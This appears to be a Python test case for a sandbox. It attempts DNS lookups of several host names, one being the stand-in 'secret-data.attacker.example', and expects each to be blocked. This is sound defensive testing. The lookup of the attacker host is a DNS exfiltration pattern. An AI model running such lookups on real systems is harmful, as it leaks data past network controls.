# attack: resolve names (socket.getaddrinfo / gethostbyname) to exfiltrate data through DNS
# expect: blocked
import socket
for name in ['example.com', 'secret-data.attacker.example', 'localhost']:
    for fn in ['getaddrinfo', 'gethostbyname']:
        try:
            f = getattr(socket, fn)
            result = f(name, 80) if fn == 'getaddrinfo' else f(name)
            print('ESCAPED' if name != 'localhost' else 'resolved', fn, name, result)
        except (OSError, AttributeError) as e:
            print('BLOCKED', fn, name, type(e).__name__, e)
